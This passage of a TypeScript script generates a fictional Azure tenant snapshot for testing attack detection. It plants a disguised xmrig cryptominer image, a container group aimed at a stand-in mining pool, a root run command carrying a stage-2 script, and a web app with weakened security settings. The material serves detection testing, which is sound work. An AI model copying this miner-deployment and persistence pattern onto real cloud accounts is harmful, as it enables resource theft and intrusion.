        localizedValue: SUBSTATUS_TEXT[r.subStatus] ?? r.subStatus,
      },
      eventTimestamp: iso7(r.t),
      submissionTimestamp: iso7(addSeconds(r.t, r.submitLagS)),
      subscriptionId: r.sub.subscriptionId,
      tenantId: TENANT,
    };
  };
  // Diagnostic-settings export shape (storage PT1H.json, one JSON object per line):
  // activity-log-schema.storage-eventhub-example.json and the REST -> resource-log mapping table in
  // activity-log-schema.md ("Schema from storage account and event hubs").
  const RESULT_TYPE: Record<Phase, string> = {
    Started: "Start",
    Accepted: "Accept",
    Succeeded: "Success",
    Failed: "Failure",
  };
  const toExport = (r: Rec): Record<string, unknown> => {
    const evidence = evidenceFor(r.sub, r.who);
    return {
      time: iso7(r.t),
      resourceId: r.resourceId.toUpperCase(),
      operationName: r.op.toUpperCase(),
      category: "Administrative",
      resultType: RESULT_TYPE[r.phase],
      resultSignature: `${r.phase}.${r.subStatus}`,
      durationMs: 0,
      callerIpAddress: r.ip,
      correlationId: r.correlationId,
      identity: {
        authorization: {
          scope: r.resourceId,
          action: r.op,
          ...(evidence ? { evidence } : {}),
        },
        claims: claimsOf(r),
      },
      level: r.phase === "Failed" ? "Error" : "Information",
      location: "global",
      properties: propsOf(r, true),
    };
  };

  const cmpT = (a: Rec, b: Rec): number => (a.t < b.t ? -1 : a.t > b.t ? 1 : 0);
  const prodRecs = recs.filter((r) => r.sub === prod).sort((a, b) => cmpT(b, a)); // REST lists newest first
  const devRecs = recs.filter((r) => r.sub === dev).sort(cmpT);
  for (const r of recs) {
    const ms = msOf(r.t);
    if (ms < WINDOW_FROM_MS || ms >= WINDOW_TO_MS) throw new Error(`record outside the window: ${iso7(r.t)} ${r.op}`);
    if (!r.attack && r.ip === ATTACK_IP) throw new Error("benign record uses the attack IP");
  }
  const PAGE = 200;
  const pages = Math.ceil(prodRecs.length / PAGE);
  for (let p = 0; p < pages; p++) {
    const body = {
      value: prodRecs.slice(p * PAGE, (p + 1) * PAGE).map(toRest),
      nextLink: null,
    };
    files.set(
      `activity/${prod.subscriptionId}/page-${String(p + 1).padStart(3, "0")}.json.gz`,
      gzipSync(Buffer.from(JSON.stringify(body)), { level: 9 }),
    );
  }
  const hourly = new Map<string, string[]>();
  for (const r of devRecs) {
    const d = new Date(msOf(r.t));
    const p2 = (n: number): string => String(n).padStart(2, "0");
    const key = `activity/${dev.subscriptionId}/y=${d.getUTCFullYear()}/m=${p2(d.getUTCMonth() + 1)}/d=${p2(d.getUTCDate())}/h=${p2(d.getUTCHours())}/m=00/PT1H.json`;
    const list = hourly.get(key) ?? [];
    list.push(JSON.stringify(toExport(r)));
    hourly.set(key, list);
  }
  for (const [key, lines] of hourly) files.set(key, Buffer.from(`${lines.join("\n")}\n`));

  // ----- roles --------------------------------------------------------------------------------
  putJson("roles/roleDefinitions.json", {
    value: BUILTIN_ROLE_DEFINITIONS.map((d) => ({
      ...d,
      id: d.id.replace(
        `/subscriptions/${RECORDED_ROLE_DEFINITIONS_SUBSCRIPTION}/`,
        `/subscriptions/${prod.subscriptionId}/`,
      ),
    })),
  });
  for (const s of SUBS)
    putJson(`roles/roleAssignments-${s.subscriptionId}.json`, {
      value: assignments.get(s) ?? [],
    });

  // ----- function / web apps ------------------------------------------------------------------
  // Site: GetWebApp.json (Microsoft.Web 2024-04-01 examples), trimmed; function-app kinds as in
  // recorded/cloud-custodian/DeploymentUnitsTest.test_function_app_consumption.json ("functionapp,linux").
  const siteBody = (a: App, created: boolean): Record<string, unknown> => {
    const host = `${a.name}.azurewebsites.net`;
    const mod = lastModified.get(a.id);
    const lastMs =
      mod !== undefined
        ? msOf(mod)
        : Date.UTC(2026, 8, rng.int(1, 28), rng.int(8, 17), rng.int(0, 59), rng.int(0, 59), rng.int(0, 999));
    const body: Record<string, unknown> = {
      id: a.id,
      name: a.name,
      type: "Microsoft.Web/sites",
      kind: a.kind,
      location: "East US",
    };
    if (a.name === "app-contoso-web")
      body.identity = {
        type: "SystemAssigned",
        tenantId: TENANT,
        principalId: WEB_MI_OID,
      };
    body.properties = {
      name: a.name,
      state: "Running",
      hostNames: [host],
      repositorySiteName: a.name,
      usageState: "Normal",
      enabled: true,
      enabledHostNames: [host, `${a.name}.scm.azurewebsites.net`],
      availabilityState: "Normal",
      serverFarmId: a.plan,
      reserved: a.reserved,
      isXenon: false,
      hyperV: false,
      lastModifiedTimeUtc: iso3(lastMs),
      siteConfig: {
        numberOfWorkers: 1,
        linuxFxVersion: a.linuxFxVersion,
        appCommandLine: a.appCommandLine,
        alwaysOn: !a.kind.startsWith("functionapp"),
        http20Enabled: true,
        minTlsVersion: "1.2",
        ftpsState: created ? "AllAllowed" : "FtpsOnly",
        functionAppScaleLimit: a.kind.startsWith("functionapp") ? 200 : 0,
      },
      clientAffinityEnabled: false,
      clientCertEnabled: false,
      hostNamesDisabled: false,
      containerSize: a.kind.startsWith("functionapp") ? 1536 : 0,
      dailyMemoryTimeQuota: 0,
      resourceGroup: a.rg,
      defaultHostName: host,
      httpsOnly: !created,
      redundancyMode: "None",
    };
    return body;
  };
  // App settings: ListAppSettings.json (Microsoft.Web 2024-04-01 examples).
  const appSettingsBody = (a: App): Record<string, unknown> => ({
    id: `${a.id}/config/appsettings`,
    name: "appsettings",
    type: "Microsoft.Web/sites/config",
    kind: a.kind,
    properties: a.settings(),
  });
  putJson(`functionApps/sites-${prod.subscriptionId}.json`, {
    value: [...APPS_PROD.map((a) => siteBody(a, false)), siteBody(ATTACK_APP, true)],
  });
  putJson(`functionApps/sites-${dev.subscriptionId}.json`, {
    value: APPS_DEV.map((a) => siteBody(a, false)),
  });
  for (const a of [...APPS_PROD, ATTACK_APP, ...APPS_DEV])
    putJson(`functionApps/${a.name}.appsettings.json`, appSettingsBody(a));

  // ----- container images ---------------------------------------------------------------------
  // manifest: GetManifest.json (ACR data plane 2021-07-01, Docker v2 schema 2); config:
  // oci/extracted_json_blocks/config.block1.json; attributes: GetManifestList.json manifests[] item.
  type Hist = { by: string; empty?: boolean; atMs: number };
  const images: {
    path: string;
    repo: string;
    tags: string[];
    attack: boolean;
  }[] = [];
  const buildImage = (o: {
    repo: string;
    tags: string[];
    builtMs: number;
    pushedMs: number;
    env: string[];
    entrypoint?: string[];
    cmd?: string[];
    workdir?: string;
    user?: string;
    exposed?: string[];
    labels: Record<string, string>;
    history: Hist[];
    attack?: boolean;
  }): void => {
    const nonEmpty = o.history.filter((h) => !h.empty);
    const layers = nonEmpty.map((h) => ({
      mediaType: "application/vnd.docker.image.rootfs.diff.tar.gzip",
      size: h.by.includes("ADD file:") ? rng.int(27_000_000, 30_500_000) : rng.int(180, 48_000_000),
      digest: `sha256:${rng.hex(32)}`,
    }));
    // Layers a live scan reads (at most --max-layer-bytes, 4 MiB by default) get real bytes in
    // images/contosoprodacr/blobs/sha256/, which the emulator serves: benign start-up files that
    // the payload rules must leave alone. The drawn size and digest are replaced after the draw, so
    // everything else the seed makes stays as it was; the planted image has no layer this small.
    if (!o.attack) {
      const slug = o.repo.replaceAll("/", "-");
      for (const [i, l] of layers.entries()) {
        if (l.size > 4 * 1024 * 1024) continue;
        const tar = ustar(
          [
            {
              path: `etc/profile.d/${slug}.sh`,
              text: `# ${o.repo}: defaults for interactive shells\nexport APP_ENV=production\nexport PYTHONUNBUFFERED=1\numask 027\n`,
            },
            {
              path: `etc/cron.d/${slug}-tmp`,
              text: "# clear the app's scratch space every night\n15 3 * * * app find /app/tmp -type f -mtime +7 -delete\n",
            },
            { path: "app/BUILD-STEP", text: `${nth(nonEmpty, i).by}\n` },
          ],
          Math.floor(nth(nonEmpty, i).atMs / 1000),
        );
        const blob = gzipSync(tar, { level: 9 });
        l.size = blob.length;
        l.digest = `sha256:${sha256Hex(blob)}`;
        files.set(`images/contosoprodacr/blobs/sha256/${sha256Hex(blob)}`, blob);
      }
    }
    const cfg: Record<string, unknown> = {};
    if (o.user) cfg.User = o.user;
    if (o.exposed) cfg.ExposedPorts = Object.fromEntries(o.exposed.map((p) => [p, {}]));
    cfg.Env = o.env;
    if (o.entrypoint) cfg.Entrypoint = o.entrypoint;
    if (o.cmd) cfg.Cmd = o.cmd;
    cfg.WorkingDir = o.workdir ?? "/";
    cfg.Labels = o.labels;
    const config = {
      created: isoNano(o.builtMs, rng),
      architecture: "amd64",
      os: "linux",
      config: cfg,
      rootfs: {
        type: "layers",
        diff_ids: nonEmpty.map(() => `sha256:${rng.hex(32)}`),
      },
      history: o.history.map((h) => ({
        created: isoNano(h.atMs, rng),
        created_by: h.by,
        ...(h.empty ? { empty_layer: true } : {}),
      })),
    };
    const configJson = JSON.stringify(config);
    const manifest = {
      schemaVersion: 2,
      mediaType: "application/vnd.docker.distribution.manifest.v2+json",
      config: {
        mediaType: "application/vnd.docker.container.image.v1+json",
        size: Buffer.byteLength(configJson),
        digest: `sha256:${sha256Hex(configJson)}`,
      },
      layers,
    };
    const manifestJson = JSON.stringify(manifest);
    const digestHex = sha256Hex(manifestJson);
    const pushed = iso7(ticksOfMs(o.pushedMs, rng.int(0, 9999)));
    const envelope = {
      registry: REGISTRY_LOGIN,
      repository: o.repo,
      tags: o.tags,
      digest: `sha256:${digestHex}`,
      manifest,
      config,
      attributes: {
        digest: `sha256:${digestHex}`,
        imageSize:
          layers.reduce((n, l) => n + l.size, 0) + Buffer.byteLength(configJson) + Buffer.byteLength(manifestJson),
        createdTime: pushed,
        lastUpdateTime: pushed,
        architecture: "amd64",
        os: "linux",
        tags: o.tags,
        changeableAttributes: {
          deleteEnabled: true,
          writeEnabled: true,
          readEnabled: true,
          listEnabled: true,
        },
      },
    };
    const path = `images/contosoprodacr/${o.repo.replaceAll("/", "_")}/${digestHex.slice(0, 12)}.json`;
    putJson(path, envelope);
    images.push({
      path,
      repo: o.repo,
      tags: o.tags,
      attack: o.attack === true,
    });
  };
  const PATH_ENV = "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";
  const debianBase = (baseMs: number): Hist[] => [
    { by: `/bin/sh -c #(nop) ADD file:${rng.hex(32)} in / `, atMs: baseMs },
    { by: '/bin/sh -c #(nop)  CMD ["bash"]', empty: true, atMs: baseMs + 400 },
  ];
  const pythonBase = (baseMs: number): Hist[] => [
    ...debianBase(baseMs),
    {
      by: "ENV PATH=/usr/local/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
      empty: true,
      atMs: baseMs + 3_600_000,
    },
    { by: "ENV LANG=C.UTF-8", empty: true, atMs: baseMs + 3_600_000 },
    {
      by: "RUN /bin/sh -c set -eux; apt-get update; apt-get install -y --no-install-recommends ca-certificates netbase tzdata; rm -rf /var/lib/apt/lists/* # buildkit",
      atMs: baseMs + 3_610_000,
    },
    { by: "ENV PYTHON_VERSION=3.12.7", empty: true, atMs: baseMs + 3_610_000 },
    {
      by: 'RUN /bin/sh -c set -eux; savedAptMark="$(apt-mark showmanual)"; apt-get update; apt-get install -y --no-install-recommends dpkg-dev gcc libssl-dev make wget xz-utils zlib1g-dev; ./configure --enable-optimizations --with-lto; make -j "$(nproc)"; make install; python3 --version # buildkit',
      atMs: baseMs + 4_200_000,
    },
    { by: 'CMD ["python3"]', empty: true, atMs: baseMs + 4_200_000 },
  ];
  const nginxBase = (baseMs: number): Hist[] => [
    ...debianBase(baseMs),
    { by: "ENV NGINX_VERSION=1.27.2", empty: true, atMs: baseMs + 3_600_000 },
    {
      by: "RUN /bin/sh -c set -x && groupadd --system --gid 101 nginx && useradd --system --gid nginx --no-create-home --home /nonexistent --shell /bin/false --uid 101 nginx && apt-get update && apt-get install --no-install-recommends --no-install-suggests -y nginx=$NGINX_VERSION-1~bookworm && rm -rf /var/lib/apt/lists/* # buildkit",
      atMs: baseMs + 3_700_000,
    },
    { by: "COPY docker-entrypoint.sh / # buildkit", atMs: baseMs + 3_700_500 },
    {
      by: 'ENTRYPOINT ["/docker-entrypoint.sh"]',
      empty: true,
      atMs: baseMs + 3_700_500,
    },
    { by: "EXPOSE map[80/tcp:{}]", empty: true, atMs: baseMs + 3_700_500 },
    { by: "STOPSIGNAL SIGQUIT", empty: true, atMs: baseMs + 3_700_500 },
    {
      by: 'CMD ["nginx" "-g" "daemon off;"]',
      empty: true,
      atMs: baseMs + 3_700_500,
    },
  ];
  const PY_BASE_MS = Date.UTC(2026, 9, 8, 3, 11, 20);
  const NGINX_BASE_MS = Date.UTC(2026, 9, 2, 22, 40, 5);
  const gitLabels = (repo: string, version: string): Record<string, string> => ({
    "org.opencontainers.image.source": `https://git.contoso.example.com/platform/${repo.split("/")[1]}`,
    "org.opencontainers.image.revision": rng.hex(20),
    "org.opencontainers.image.version": version,
  });
  const apiImage = (version: string, builtMs: number): void =>
    buildImage({
      repo: "contoso/api",
      tags: [version],
      builtMs,
      pushedMs: builtMs + 95_000,
      env: [
        PATH_ENV.replace("PATH=", "PATH=/usr/local/bin:"),
        "LANG=C.UTF-8",
        "PYTHON_VERSION=3.12.7",
        "PYTHONUNBUFFERED=1",
      ],
      entrypoint: ["/usr/local/bin/gunicorn", "app:app"],
      cmd: ["--bind", "0.0.0.0:8000", "--workers", "4"],
      workdir: "/app",
      user: "app",
      exposed: ["8000/tcp"],
      labels: gitLabels("contoso/api", version),
      history: [
        ...pythonBase(PY_BASE_MS),
        { by: "WORKDIR /app", atMs: builtMs - 60_000 },
        {
          by: "/bin/sh -c apt-get update && apt-get install -y curl ca-certificates",
          atMs: builtMs - 55_000,
        },
        { by: "COPY requirements.txt . # buildkit", atMs: builtMs - 40_000 },
        { by: "RUN pip install -r requirements.txt", atMs: builtMs - 30_000 },
        { by: "COPY . . # buildkit", atMs: builtMs - 5_000 },
        {
          by: "RUN /bin/sh -c useradd --system --uid 1001 app # buildkit",
          atMs: builtMs - 3_000,
        },
        { by: "USER app", empty: true, atMs: builtMs },
        { by: "EXPOSE map[8000/tcp:{}]", empty: true, atMs: builtMs },
        {
          by: 'ENTRYPOINT ["/usr/local/bin/gunicorn" "app:app"]',
          empty: true,
          atMs: builtMs,
        },
        {
          by: 'CMD ["--bind" "0.0.0.0:8000" "--workers" "4"]',
          empty: true,
          atMs: builtMs,
        },
      ],
    });
  const workerImage = (version: string, builtMs: number): void =>
    buildImage({
      repo: "contoso/worker",
      tags: [version],
      builtMs,
      pushedMs: builtMs + 80_000,
      env: [
        PATH_ENV.replace("PATH=", "PATH=/usr/local/bin:"),
        "LANG=C.UTF-8",
        "PYTHON_VERSION=3.12.7",
        "CELERY_BROKER_URL=amqps://mq.contoso.example.com:5671//",
      ],
      entrypoint: ["celery", "-A", "worker", "worker", "--loglevel=INFO"],
      workdir: "/srv/worker",
      user: "worker",
      labels: gitLabels("contoso/worker", version),
      history: [
        ...pythonBase(PY_BASE_MS),
        { by: "WORKDIR /srv/worker", atMs: builtMs - 50_000 },
        {
          by: "RUN /bin/sh -c apt-get update && apt-get install -y curl ca-certificates && rm -rf /var/lib/apt/lists/* # buildkit",
          atMs: builtMs - 45_000,
        },
        { by: "COPY requirements.txt . # buildkit", atMs: builtMs - 30_000 },
        {
          by: "RUN /bin/sh -c pip install --no-cache-dir -r requirements.txt # buildkit",
          atMs: builtMs - 20_000,
        },
        { by: "COPY worker/ ./worker/ # buildkit", atMs: builtMs - 4_000 },
        {
          by: "RUN /bin/sh -c useradd --system --uid 1002 worker # buildkit",
          atMs: builtMs - 2_000,
        },
        { by: "USER worker", empty: true, atMs: builtMs },
        {
          by: 'ENTRYPOINT ["celery" "-A" "worker" "worker" "--loglevel=INFO"]',
          empty: true,
          atMs: builtMs,
        },
      ],
    });
  const nginxImage = (repo: string, version: string, extraTags: string[], builtMs: number, port: string): void =>
    buildImage({
      repo,
      tags: [version, ...extraTags],
      builtMs,
      pushedMs: builtMs + 60_000,
      env: [PATH_ENV, "NGINX_VERSION=1.27.2", "NJS_VERSION=0.8.7", "PKG_RELEASE=1~bookworm"],
      entrypoint: ["/docker-entrypoint.sh"],
      cmd: ["nginx", "-g", "daemon off;"],
      exposed: [`${port}/tcp`],
      labels: gitLabels(repo, version),
      history: [
        ...nginxBase(NGINX_BASE_MS),
        {
          by: "COPY nginx.conf /etc/nginx/conf.d/default.conf # buildkit",
          atMs: builtMs - 20_000,
        },
        {
          by: "COPY dist/ /usr/share/nginx/html/ # buildkit",
          atMs: builtMs - 10_000,
        },
        { by: `EXPOSE map[${port}/tcp:{}]`, empty: true, atMs: builtMs },
      ],
    });
  apiImage("1.4.2", Date.UTC(2026, 9, 14, 15, 2, 41));
  apiImage("1.4.3", Date.UTC(2026, 10, 3, 14, 27, 9));
  workerImage("0.9.6", Date.UTC(2026, 9, 9, 11, 48, 30));
  workerImage("0.9.7", Date.UTC(2026, 10, 10, 13, 5, 52));
  nginxImage("contoso/web", "2.0.1", ["latest"], Date.UTC(2026, 9, 20, 16, 31, 14), "8080");
  nginxImage("contoso/frontend", "3.1.0", [], Date.UTC(2026, 9, 28, 10, 12, 3), "80");
  // The imported miner (tools/updater:1.0): built upstream long ago, imported during the attack.
  const MINER_BUILT_MS = Date.UTC(2023, 11, 22, 11, 4, 51);
  const ALPINE_MS = Date.UTC(2023, 10, 30, 23, 22, 0);
  buildImage({
    repo: "tools/updater",
    tags: ["1.0"],
    builtMs: MINER_BUILT_MS,
    pushedMs: msOf(r4.end) - 6_000,
    env: [PATH_ENV],
    entrypoint: ["/bin/sh", "-c"],
    cmd: [MINER_CMD],
    workdir: "/opt/xmrig",
    labels: {
      "org.opencontainers.image.title": "xmrig",
      "org.opencontainers.image.version": "6.21.0",
    },
    history: [
      {
        by: `/bin/sh -c #(nop) ADD file:${rng.hex(32)} in / `,
        atMs: ALPINE_MS,
      },
      {
        by: '/bin/sh -c #(nop)  CMD ["/bin/sh"]',
        empty: true,
        atMs: ALPINE_MS + 300,
      },
      {
        by: "RUN /bin/sh -c apk add --no-cache libuv openssl hwloc # buildkit",
        atMs: MINER_BUILT_MS - 40_000,
      },
      {
        by: "ADD xmrig-6.21.0-linux-static-x64.tar.gz /opt/ # buildkit",
        atMs: MINER_BUILT_MS - 20_000,
      },
      {
        by: "RUN /bin/sh -c mv /opt/xmrig-6.21.0 /opt/xmrig && chmod +x /opt/xmrig/xmrig # buildkit",
        atMs: MINER_BUILT_MS - 15_000,
      },
      { by: "WORKDIR /opt/xmrig", empty: true, atMs: MINER_BUILT_MS },
      { by: 'ENTRYPOINT ["/bin/sh" "-c"]', empty: true, atMs: MINER_BUILT_MS },
      { by: `CMD ["${MINER_CMD}"]`, empty: true, atMs: MINER_BUILT_MS },
    ],
    attack: true,
  });

  // ----- other resource configuration (ARM GET shapes, {value:[…]}) ---------------------------
  // Managed run command: Azure/azure-rest-api-specs specification/compute/resource-manager/
  //   Microsoft.Compute/ComputeRP/stable/2024-07-01/examples/runCommandExamples/VirtualMachineRunCommand_Get.json
  //   (name,id,type,location,properties{source{script},parameters,asyncExecution,
  //    treatFailureAsDeploymentFailure,runAsUser,timeoutInSeconds,provisioningState,outputBlobUri,errorBlobUri})
  const runCommand = {
    name: "update-agent",
    id: runCommandId,
    type: "Microsoft.Compute/virtualMachines/runCommands",
    location: "eastus",
    properties: {
      source: { script: STAGE2_SCRIPT },
      parameters: [],
      asyncExecution: false,
      treatFailureAsDeploymentFailure: false,
      runAsUser: "root",
      timeoutInSeconds: 3600,
      provisioningState: "Succeeded",
    },
  };
  putJson(`resources/${prod.subscriptionId}-runCommands.json`, {
    value: [runCommand],
  });
  putJson(`resources/${dev.subscriptionId}-runCommands.json`, { value: [] });

  // VM extension: Azure/azure-rest-api-specs specification/compute/resource-manager/Microsoft.Compute/
  //   ComputeRP/stable/2024-07-01/examples/virtualMachineExamples/VirtualMachineExtension_Get_MaximumSet_Gen.json
  //   and VirtualMachineExtension_List_MaximumSet_Gen.json (name,type,id,location,properties{autoUpgradeMinorVersion,
  //   provisioningState,publisher,type,typeHandlerVersion,settings,enableAutomaticUpgrade}); protectedSettings
  //   are never returned by a GET, so they are absent.
  const extensionBody = (v: Vm): Record<string, unknown> => ({
    name: "AzureMonitorLinuxAgent",
    type: "Microsoft.Compute/virtualMachines/extensions",
    id: `${v.id}/extensions/AzureMonitorLinuxAgent`,
    location: "eastus",
    properties: {
      autoUpgradeMinorVersion: true,
      provisioningState: "Succeeded",
      publisher: "Microsoft.Azure.Monitor",
      type: "AzureMonitorLinuxAgent",
      typeHandlerVersion: "1.33",
      settings: amaSettings(v.sub.subscriptionId, v.rg, v.name),
      enableAutomaticUpgrade: true,
    },
  });
  putJson(`resources/${prod.subscriptionId}-vmExtensions.json`, {
    value: VMS_PROD.map(extensionBody),
  });
  putJson(`resources/${dev.subscriptionId}-vmExtensions.json`, {
    value: VMS_DEV.map(extensionBody),
  });

  // Container group: Azure/azure-rest-api-specs specification/containerinstance/resource-manager/
  //   Microsoft.ContainerInstance/stable/2023-05-01/examples/ContainerGroupsList.json (containers[].properties
  //   {command,environmentVariables,image,ports,resources{requests{cpu,memoryInGB}}}, imageRegistryCredentials,
  //   ipAddress{ip,ports[{port,protocol}],type}, osType, provisioningState) and restartPolicy from the
  //   ContainerGroupProperties definition in .../stable/2023-05-01/containerInstance.json.
  const containerGroup = {
    id: cgId,
    location: "eastus",
    name: "cg-updater",
    properties: {
      containers: [
        {
          name: "updater",
          properties: {
            command: [],
            environmentVariables: [{ name: "POOL", value: "pool.example.org:3333" }],
            image: `${REGISTRY_LOGIN}/tools/updater:1.0`,
            ports: [{ port: 80 }],
            resources: { requests: { cpu: 4, memoryInGB: 8 } },
          },
        },
      ],
      imageRegistryCredentials: [{ server: REGISTRY_LOGIN, username: "contosoprodacr" }],
      ipAddress: {
        ip: "198.51.100.201",
        ports: [{ port: 80, protocol: "TCP" }],
        type: "Public",
      },
      osType: "Linux",
      restartPolicy: "Always",
      provisioningState: "Succeeded",
    },
    type: "Microsoft.ContainerInstance/containerGroups",
  };
  putJson(`resources/${prod.subscriptionId}-containerGroups.json`, {
    value: [containerGroup],
  });
  putJson(`resources/${dev.subscriptionId}-containerGroups.json`, {
    value: [],
  });

  // ----- snapshot manifest ------------------------------------------------------------------
  putJson("snapshot.json", {
    name: "Contoso demo tenant (fictional)",
    tenantId: TENANT,
    generatedBy: "scripts/generate-demo.ts",
    seed,
    window: {
      from: iso3(WINDOW_FROM_MS).replace(".000Z", "Z"),
      to: iso3(WINDOW_TO_MS).replace(".000Z", "Z"),
    },
    subscriptions: SUBS.map((s) => ({
      subscriptionId: s.subscriptionId,
      displayName: s.displayName,
    })),
  });

  // ----- counts -------------------------------------------------------------------------------
  const countBy = (list: Rec[], f: (r: Rec) => string): Record<string, number> => {
    const m: Record<string, number> = {};
    for (const r of list) m[f(r)] = (m[f(r)] ?? 0) + 1;
    return Object.fromEntries(Object.entries(m).sort(([a], [b]) => a.localeCompare(b)));
  };
  const perSub = (s: Sub): Record<string, unknown> => {
    const list = recs.filter((r) => r.sub === s);
    return {
      subscriptionId: s.subscriptionId,
      format: s.format === "rest" ? "REST pages (gzip)" : "diagnostic-settings export (PT1H.json)",
      records: list.length,
      benign: list.filter((r) => !r.attack).length,
      attack: list.filter((r) => r.attack).length,
      files: s.format === "rest" ? pages : hourly.size,
      byCaller: countBy(list, (r) => r.who.displayName),
      byStatus: countBy(list, (r) => r.phase),
      byOperation: countBy(list, (r) => r.op),
      roleAssignments: assignments.get(s)?.length ?? 0,
      sites: s === prod ? APPS_PROD.length + 1 : APPS_DEV.length,
      vmExtensions: s === prod ? VMS_PROD.length : VMS_DEV.length,
      runCommands: s === prod ? 1 : 0,
      containerGroups: s === prod ? 1 : 0,
    };
  };
  const counts = {
    activityRecords: recs.length,
    benignRecords: recs.filter((r) => !r.attack).length,
    attackRecords: recs.filter((r) => r.attack).length,
    operations: new Set(recs.map((r) => `${r.correlationId}|${r.operationId}`)).size,
    deploymentsByCiCd: spRelease,
    subscriptions: {
      [prod.displayName]: perSub(prod),
      [dev.displayName]: perSub(dev),
    },
    roleDefinitions: BUILTIN_ROLE_DEFINITIONS.length,
    appSettings: APPS_PROD.length + APPS_DEV.length + 1,
    images: {
      total: images.length,
      benign: images.filter((i) => !i.attack).length,
      attack: images.filter((i) => i.attack).length,
      list: images.map((i) => `${i.repo}:${i.tags.join(",")}`),
    },
    attackTimeline: recs
      .filter((r) => r.attack && r.phase !== "Started")
      .sort(cmpT)
      .map((r) => `${iso7(r.t)} ${r.phase} ${r.op} ${r.resourceId.split("/").slice(-1)[0]}`),
  };
  return { files, counts };
}

// ---------------------------------------------------------------------------------------------
// Write
// ---------------------------------------------------------------------------------------------
function main(): void {
  const { out, seed } = parseArgs(process.argv.slice(2));
  const { files, counts } = generate(seed);
  // remove only what this generator owns, so stale files from an earlier run cannot linger
  for (const owned of ["activity", "roles", "functionApps", "images", "resources", "snapshot.json"]) {
    rmSync(join(out, owned), { recursive: true, force: true });
  }
  for (const path of [...files.keys()].sort()) {
    const full = join(out, path);
    mkdirSync(dirname(full), { recursive: true });
    writeFileSync(full, files.get(path) ?? Buffer.alloc(0));
  }
  let bytes = 0;
  for (const b of files.values()) bytes += b.length;
  const report = { out, seed, files: files.size, bytes, ...counts };
  process.stdout.write(`${JSON.stringify(report, null, 2)}\n`);
}

main();
